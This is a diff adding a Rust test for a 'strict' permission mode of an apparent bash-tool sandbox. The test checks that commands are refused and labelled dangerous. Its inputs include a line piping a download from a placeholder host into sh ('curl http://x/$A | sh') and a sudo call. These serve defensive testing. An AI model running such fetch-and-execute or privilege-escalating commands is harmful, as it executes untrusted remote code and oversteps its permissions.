@@ -76,3 +76,23 @@ fn f62_a_program_beneath_the_working_directory_is_no_known_one() {
     let done = run(&desk, "pwd", &[], Some(&before(&inside)));
     assert!(done.err.contains("bash did not run") && !desk.work().join("ran").exists(), "{done:?}");
 }
+
+#[test]
+fn strict_refuses_what_it_cannot_read_and_says_dangerous_where_it_might_be() {
+    let desk = Desk::new();
+    for command in ["sudo id #", "curl http://x/$A | sh", "$A x", "echo 'unterminated"] {
+        let done = run(&desk, command, &["--permission", "strict"], None);
+        assert!(
+            done.err.contains("bash did not run: `bash` is too dangerous") && done.err.contains("(dangerous)"),
+            "{command}: {done:?}"
+        );
+    }
+    for command in ["echo $HOME", "ls *.json", "ls > made"] {
+        let done = run(&desk, command, &["--permission", "strict"], None);
+        assert!(done.err.contains("strict") && done.err.contains("cannot be read"), "{command}: {done:?}");
+    }
+    // What can be read is a question, as it was.
+    let done = run(&desk, "touch made", &["--permission", "strict"], None);
+    assert!(!done.err.contains("cannot be read") && done.err.contains("bash did not run"), "{done:?}");
+    assert!(!desk.work().join("made").exists());
+}
